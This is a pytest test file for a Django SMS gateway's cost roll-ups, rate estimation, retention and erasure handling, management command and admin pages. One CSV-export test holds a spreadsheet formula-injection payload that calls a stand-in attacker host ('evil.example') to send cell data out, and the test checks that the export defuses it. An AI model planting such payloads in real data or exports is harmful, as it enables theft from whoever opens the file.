"""What texts cost: told or estimated, added up by day, and not lost when the texts themselves are forgotten."""

import csv
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from io import StringIO
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from notifier.services import retention
from notifier.services.forgetting import Kind
from notifier.sql import Ids
from smsbridge.ids import first_of, uuid7
from smsbridge.models import Bridge, DailyCost, ForgottenCost, OutboundSms, Rate
from smsbridge.services import costs, deciding
from smsbridge.services.accounts import live_accounts
from smsbridge.services.costs import Cost
from smsbridge.services.retention import TEXTS_GO
from smsbridge.services.settling import settle
from smsbridge.tasks import roll_up_costs
from smsbridge.vendors.base import DeliveryReceipt, ReceiptState
from tests import factories
from tests.admin_pages import Pages, html
from tests.operators import looker
from tests.threads import times

pytestmark = pytest.mark.django_db(transaction=True)

NOON = datetime.combine(datetime.now(UTC).date(), datetime.min.time(), UTC) - timedelta(hours=12)
DAY = NOON.date()


@pytest.fixture
def bridge() -> Bridge:
    return factories.bridge()


def texted(bridge: Bridge, at: datetime = NOON, **fields: Any) -> OutboundSms:
    """A text that was sent at that time: to Germany, of one segment, at a told price unless `fields` say otherwise."""
    known = {"state": "sent", "country": "DE", "price": Decimal("0.07"), "currency": "EUR", "sent_at": at}
    made_at = at - timedelta(minutes=1)
    id_ = type(uuid7())(int=first_of(made_at).int | uuid7().int & (1 << 76) - 1)
    return factories.outbound(bridge, **{"id": id_, "created_at": made_at, **known, **fields})


def total(day: date = DAY) -> list[Cost]:
    return costs.by_currency(costs.between(day, day))


def euros(texts: int, told: str, estimated: str = "0") -> list[Cost]:
    return [Cost("EUR", texts, texts, Decimal(told), Decimal(estimated))]


def test_it_adds_up_by_bridge_day_account_country_and_currency(bridge: Bridge) -> None:
    other = factories.bridge()
    for of, changes in (
        (bridge, {}),
        (bridge, {"segments": 2, "price": Decimal("0.14")}),
        (bridge, {"country": "FR"}),
        (bridge, {"currency": "USD"}),
        (bridge, {"at": NOON - timedelta(days=1)}),
        (other, {}),
    ):
        texted(of, **changes)
    keyword = texted(bridge, purpose="help")
    OutboundSms.objects.filter(pk=keyword.pk).update(bridge=None)
    assert costs.roll_up(DAY - timedelta(days=1), DAY)
    found = costs.grouped(DailyCost.objects.all(), ["day", "bridge", "country"])
    assert {(*keys, cost.currency): (cost.texts, cost.segments, cost.amount) for keys, cost in found} == {
        (DAY - timedelta(days=1), bridge.pk, "DE", "EUR"): (1, 1, Decimal("0.07")),
        (DAY, bridge.pk, "DE", "EUR"): (2, 3, Decimal("0.21")),
        (DAY, bridge.pk, "FR", "EUR"): (1, 1, Decimal("0.07")),
        (DAY, bridge.pk, "DE", "USD"): (1, 1, Decimal("0.07")),
        (DAY, other.pk, "DE", "EUR"): (1, 1, Decimal("0.07")),
        (DAY, None, "DE", "EUR"): (1, 1, Decimal("0.07")),
    }


@pytest.mark.parametrize(
    ("state", "texts"),
    [
        ("sent", 1),
        ("delivered", 1),
        ("undelivered", 1),
        ("closed", 1),
        ("ready", 0),
        ("dead", 0),
        ("withdrawn", 0),
    ],
)
def test_what_a_vendor_took_is_paid_for_and_nothing_else(bridge: Bridge, state: str, texts: int) -> None:
    sent_at = NOON if texts else None
    texted(bridge, state=state, sent_at=sent_at, settled_at=NOON)
    costs.roll_up(DAY)
    assert sum(cost.texts for cost in total()) == texts


@pytest.mark.parametrize(("vendor_id", "texts"), [(None, 0), ("v-1", 1)])
def test_what_was_perhaps_sent_and_then_closed_costs_if_the_vendor_has_it(
    bridge: Bridge, vendor_id: str | None, texts: int
) -> None:
    sms = texted(bridge, state="uncertain", sent_at=None, price=None, currency="", vendor_id=vendor_id)
    deciding.close([sms.pk], "ann", "it never left")
    costs.roll_up(DAY)
    assert sum(cost.texts for cost in total()) == texts


def test_what_was_perhaps_sent_is_estimated(bridge: Bridge) -> None:
    texted(bridge)
    texted(bridge, state="uncertain", sent_at=None, settled_at=NOON, price=None, currency="", segments=1)
    costs.roll_up(DAY)
    assert total() == euros(2, "0.07", "0.07")


def test_a_price_that_was_not_told_is_estimated_by_the_rate_for_the_country_or_for_everywhere_else(
    bridge: Bridge,
) -> None:
    account = bridge.pool.numbers.order_by("pk")[0].account
    Rate.objects.create(account=account, country="", currency="EUR", per_segment=Decimal("0.2"), since=NOON)
    texted(bridge)  # by which the rate for Germany is learnt
    for country in ("DE", "FR", ""):
        texted(bridge, country=country, price=None, currency="")
    costs.roll_up(DAY)
    assert total() == euros(4, "0.07", "0.47")


def test_what_nobody_knows_the_price_of_is_counted_all_the_same(bridge: Bridge) -> None:
    texted(bridge, price=None, currency="")
    costs.roll_up(DAY)
    assert total() == [Cost("", 1, 1, Decimal(0), Decimal(0))]


def test_adding_up_again_changes_nothing_and_follows_what_was_told_since(bridge: Bridge) -> None:
    one = texted(bridge, price=None, currency="")
    texted(bridge)
    costs.roll_up(DAY)
    costs.roll_up(DAY)
    assert total() == euros(2, "0.07", "0.07")
    OutboundSms.objects.filter(pk=one.pk).update(price=Decimal("0.05"), currency="EUR")
    costs.roll_up(DAY)
    assert total() == euros(2, "0.12")
    OutboundSms.objects.update(state="dead", sent_at=None)
    costs.roll_up(DAY)
    assert total() == []


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_that_add_up_at_once_count_nothing_twice(bridge: Bridge) -> None:
    for _ in range(5):
        texted(bridge, price=None, currency="")  # no rate is learnt by them, so that nothing else makes them wait
    account = bridge.pool.numbers.order_by("pk")[0].account
    Rate.objects.create(account=account, country="", currency="EUR", per_segment=Decimal("0.07"), since=NOON)
    assert any(times(6, lambda: costs.roll_up(DAY)))
    assert total() == euros(5, "0", "0.35")


_TEXTS = st.lists(
    st.tuples(
        st.sampled_from(["sent", "delivered", "undelivered", "uncertain", "dead", "withdrawn"]),
        st.sampled_from(["DE", "FR", ""]),
        st.sampled_from(["EUR", "USD"]),
        st.none() | st.decimals("0.00001", "9", places=5),
        st.integers(1, 4),
        st.booleans(),
    ),
    max_size=12,
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=_TEXTS, forgotten=st.integers(0, 12))
def test_the_sums_are_those_of_the_texts_however_many_are_forgotten(
    bridge: Bridge, texts: list[Any], forgotten: int
) -> None:
    OutboundSms.objects.all().delete()
    DailyCost.objects.all().delete()
    ForgottenCost.objects.all().delete()
    Rate.objects.all().delete()
    expected: dict[str, list[Any]] = {}
    for place, (state, country, currency, price, segments, yesterday) in enumerate(texts):
        at = NOON - timedelta(days=yesterday) if place >= forgotten else NOON - timedelta(days=200)
        sent = state in ("sent", "delivered", "undelivered")
        texted(
            bridge,
            at,
            state=state,
            country=country,
            price=price,
            currency=currency if price is not None else "",
            segments=segments,
            sent_at=at if sent else None,
            settled_at=at,
        )
        if sent or state == "uncertain":
            sums = expected.setdefault("counted", [0, 0, Decimal(0)])
            sums[0], sums[1], sums[2] = sums[0] + 1, sums[1] + segments, sums[2] + (price or 0)
    costs.roll_up(DAY - timedelta(days=1), DAY)
    retention.forget_old(timedelta(0), timedelta(days=180))
    costs.roll_up_recent()
    for days in (200, 201):
        costs.roll_up(DAY - timedelta(days=days))
    found = costs.by_currency(DailyCost.objects.all())
    together_ = [sum(one.texts for one in found), sum(one.segments for one in found), sum(one.amount for one in found)]
    assert together_ == expected.get("counted", [0, 0, 0])


def rate(bridge: Bridge, per_segment: str, currency: str = "EUR") -> None:
    account = bridge.pool.numbers.order_by("pk")[0].account
    what = {"currency": currency, "per_segment": Decimal(per_segment), "since": NOON}
    Rate.objects.update_or_create(account=account, country="", defaults=what)


@pytest.mark.parametrize("days", [6, 13])
def test_a_text_whose_end_is_told_late_stays_on_its_day(bridge: Bridge, days: int) -> None:
    at = NOON - timedelta(days=days)
    sms = texted(bridge, at, state="uncertain", sent_at=None, settled_at=at, price=None, currency="", vendor_id="v-1")
    rate(bridge, "0.1")
    costs.roll_up(at.date())
    account = live_accounts()[sms.account_id]
    assert settle(account, [DeliveryReceipt(vendor_id="v-1", reference="", state=ReceiptState.DELIVERED)])
    roll_up_costs()
    assert by_day() == {at.date(): euros(1, "0", "0.1")}
    costs.roll_up(at.date())
    assert by_day() == {at.date(): euros(1, "0", "0.1")}


def by_day() -> dict[date, list[Cost]]:
    return {day: total(day) for day in DailyCost.objects.values_list("day", flat=True).distinct()}


def test_a_text_that_waited_for_as_long_as_its_bridge_lets_it_is_counted(bridge: Bridge) -> None:
    Bridge.objects.update(max_age=timedelta(days=9))
    texted(bridge, made := NOON - timedelta(days=10), sent_at=NOON)
    roll_up_costs()
    assert by_day() == {made.date(): euros(1, "0.07")}


def forget(*texts: OutboundSms) -> None:
    """As they go by age, and with a person who is erased."""
    kind = Kind(what="texts", table="smsbridge_outboundsms", key="uuid", which="x.id {in:these}", acts=TEXTS_GO)
    assert kind.forget(these=Ids("uuid", [sms.pk for sms in texts])) == len(texts)


@pytest.mark.parametrize("days", [0, 60])
def test_a_day_costs_the_same_before_and_after_its_texts_are_forgotten(bridge: Bridge, days: int) -> None:
    at = NOON - timedelta(days=days)
    texts = [texted(bridge, at), *(texted(bridge, at, price=None, currency="", segments=2) for _ in range(2))]
    rate(bridge, "0.05")
    for _ in range(2):  # the second time rates are those learnt by the first text, of which there is still a rate
        costs.roll_up(at.date())
    whole = total(at.date())
    for sms in texts:
        forget(sms)
        assert total(at.date()) == whole
        costs.roll_up(at.date())
        assert total(at.date()) == whole


def test_forgetting_adds_nothing_up_at_the_rates_of_today(bridge: Bridge) -> None:
    at = NOON - timedelta(days=60)
    one, _ = (texted(bridge, at, price=None, currency="") for _ in range(2))
    rate(bridge, "0.05")
    costs.roll_up(at.date())
    rate(bridge, "0.50", "USD")
    forget(one)
    roll_up_costs()
    assert by_day() == {at.date(): euros(2, "0", "0.1")}
    costs.roll_up(at.date())  # unless somebody asks for it
    assert total(at.date()) == [Cost("USD", 2, 2, Decimal(0), Decimal(1))]


def test_what_goes_by_age_before_it_was_added_up_is_not_lost(bridge: Bridge) -> None:
    texted(bridge, long_ago := NOON - timedelta(days=200))
    retention.forget_old(timedelta(0), timedelta(days=180))
    assert not OutboundSms.objects.exists()
    costs.roll_up(long_ago.date())
    assert total(long_ago.date()) == euros(1, "0.07")


@pytest.mark.postgres
def test_two_that_forget_at_once_lose_nothing(bridge: Bridge) -> None:
    texts = iter([texted(bridge) for _ in range(6)])
    times(6, lambda: forget(next(texts)))
    costs.roll_up(DAY)
    assert total() == euros(6, "0.42")


def test_even_the_dearest_texts_that_can_be_told_are_added_up_and_forgotten(bridge: Bridge) -> None:
    texts = [texted(bridge, price=None, currency="", segments=32_767, phone=factories.phone(i)) for i in range(30)]
    rate(bridge, "99999", "IDR")
    costs.roll_up(DAY)
    assert sum(cost.estimated for cost in total()) == 30 * 32_767 * 99_999
    forget(*texts)


def test_whose_texts_are_erased_has_cost_what_he_cost(bridge: Bridge) -> None:
    texted(bridge)
    call_command("erase", "--phone", factories.BENS_PHONE, "--yes", stdout=StringIO())
    assert not OutboundSms.objects.exists()
    costs.roll_up(DAY)
    assert total() == euros(1, "0.07")


class TestRates:
    def test_the_last_told_price_of_a_segment_is_the_rate(self, bridge: Bridge) -> None:
        texted(bridge, NOON - timedelta(hours=2), price=Decimal("0.05"))
        last = texted(bridge, NOON, price=Decimal("0.12"), segments=2)
        texted(bridge, NOON + timedelta(hours=1), price=None, currency="")
        texted(bridge, NOON + timedelta(hours=1), price=Decimal(9), media=["https://chat.example/cat.png"])
        costs.roll_up(DAY)
        rate = Rate.objects.get()
        assert (rate.account_id, rate.country, rate.currency) == (last.account_id, "DE", "EUR")
        assert (rate.per_segment, rate.source, rate.since) == (Decimal("0.06"), "vendor", NOON)

    def test_it_follows_the_vendor_and_remembers_since_when(self, bridge: Bridge) -> None:
        texted(bridge, NOON - timedelta(hours=2))
        costs.roll_up(DAY)
        texted(bridge, NOON)
        costs.roll_up(DAY)
        assert Rate.objects.get().since == NOON - timedelta(hours=2)
        texted(bridge, NOON + timedelta(hours=1), price=Decimal("0.08"))
        costs.roll_up(DAY)
        assert (Rate.objects.get().per_segment, Rate.objects.get().since) == (
            Decimal("0.08"),
            NOON + timedelta(hours=1),
        )

    def test_an_operators_entry_stays(self, bridge: Bridge) -> None:
        account = bridge.pool.numbers.order_by("pk")[0].account
        mine = Rate.objects.create(account=account, country="DE", currency="EUR", per_segment=1, since=NOON)
        texted(bridge)
        costs.roll_up(DAY)
        mine.refresh_from_db()
        assert (mine.per_segment, mine.source) == (Decimal(1), "operator")

    def test_a_phone_of_no_country_makes_no_rate_for_all_others(self, bridge: Bridge) -> None:
        texted(bridge, country="")
        costs.roll_up(DAY)
        assert not Rate.objects.exists()


def run(*args: str) -> str:
    out = StringIO()
    call_command("costs", *args, stdout=out)
    return out.getvalue()


class TestCommand:
    def test_it_tells_days_and_sums(self, bridge: Bridge) -> None:
        texted(bridge)
        costs.roll_up(DAY)
        said = run("--since", DAY.isoformat())
        assert bridge.name in said
        assert "0.07000 EUR: 1 texts in 1 segments; of it estimated 0.00000." in said
        assert "Nothing was sent" in run("--since", "2020-01-01", "--until", "2020-01-31")

    def test_it_writes_a_table_for_spreadsheets(self, bridge: Bridge) -> None:
        texted(bridge)
        costs.roll_up(DAY)
        head, line = run("--since", DAY.isoformat(), "--csv", "--bridge", bridge.name).splitlines()
        assert head == "day,bridge,account,country,currency,texts,segments,told,estimated,total"
        account = bridge.pool.numbers.order_by("pk")[0].account.slug
        assert line == f"{DAY},{bridge.name},{account},DE,EUR,1,1,0.07000,0.00000,0.07000"

    @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
    def test_no_cell_of_it_is_a_formula(self, bridge: Bridge, sign: str) -> None:
        Bridge.objects.update(name=f'{sign}HYPERLINK("http://evil.example/?"&A1)')
        texted(bridge)
        costs.roll_up(DAY)
        [_, line] = csv.reader(StringIO(run("--since", DAY.isoformat(), "--csv"), newline=""))
        assert line[1].startswith(f"'{sign}")

    def test_a_price_that_was_entered_counts_for_former_days_when_asked(self, bridge: Bridge) -> None:
        sms = texted(bridge, price=None, currency="")
        costs.roll_up(DAY)
        assert "Not known: what 1 texts" in run("--since", DAY.isoformat())
        Rate.objects.create(account_id=sms.account_id, country="DE", currency="EUR", per_segment=1, since=NOON)
        assert "of it estimated 1.00000." in run("--since", DAY.isoformat(), "--again")

    @pytest.mark.parametrize(
        ("args", "remedy"),
        [
            (["--since", "yesterday"], "write it like"),
            (["--since", "2026-13-01"], "write it like"),
            (["--since", "0001-01-01", "--until", "0001-01-02", "--again"], "Nothing was texted on 0001-01-01"),
            (["--since", "1969-01-01", "--again"], "Nothing was texted on 1969-01-01"),
            (["--until", "9999-12-31", "--again"], "Nothing was texted on 9999-12-31"),
            (["--since", "2026-10-02", "--until", "2026-10-01"], "before --until"),
            (["--bridge", "nowhere"], "There is no bridge nowhere"),
        ],
    )
    def test_it_says_what_is_wrong(self, args: list[str], remedy: str) -> None:
        with pytest.raises(CommandError, match=remedy):
            run(*args)


class TestAdmin:
    pages = Pages("smsbridge")

    def test_the_list_ends_in_a_sum_for_each_currency(self, admin_client: Client, bridge: Bridge) -> None:
        for currency in ("EUR", "EUR", "USD"):
            texted(bridge, currency=currency)
        costs.roll_up(DAY)
        sums = html(admin_client, self.pages.url("dailycost")).partition('id="cost-sums"')[2]
        assert "0.14" in sums
        assert "USD" in sums

    def test_a_text_tells_its_price_in_words(self, admin_client: Client, bridge: Bridge) -> None:
        told, silent = texted(bridge, segments=2), texted(bridge, price=None, currency="")
        assert "0.07 EUR for 2 parts" in html(admin_client, self.pages.url("outboundsms", told.pk, "change"))
        assert "not told by the vendor" in html(admin_client, self.pages.url("outboundsms", silent.pk, "change"))

    def test_an_entered_price_is_an_operators(self, admin_client: Client, bridge: Bridge) -> None:
        texted(bridge)
        costs.roll_up(DAY)
        learnt = Rate.objects.get()
        form = {"account": learnt.account_id, "country": "de", "per_segment": "0.09", "currency": "eur"}
        response = admin_client.post(self.pages.url("rate", learnt.pk, "change"), form)
        assert response.status_code == 302
        learnt.refresh_from_db()
        assert (learnt.country, learnt.currency, learnt.source) == ("DE", "EUR", "operator")

    @pytest.mark.parametrize("price", ["-0.01", "10001", "99999"])
    def test_a_price_that_cannot_be_is_refused(self, admin_client: Client, bridge: Bridge, price: str) -> None:
        account = bridge.pool.numbers.order_by("pk")[0].account
        form = {"account": account.pk, "country": "de", "per_segment": price, "currency": "eur"}
        assert "Must be between 0 and 10000." in admin_client.post(self.pages.url("rate", "add"), form).text
        assert not Rate.objects.exists()

    def test_who_may_only_look_changes_no_price(self, client: Client, bridge: Bridge) -> None:
        client.force_login(looker())
        assert client.post(self.pages.url("rate", "add"), {}).status_code == 403
        assert client.get(self.pages.url("dailycost")).status_code == 200
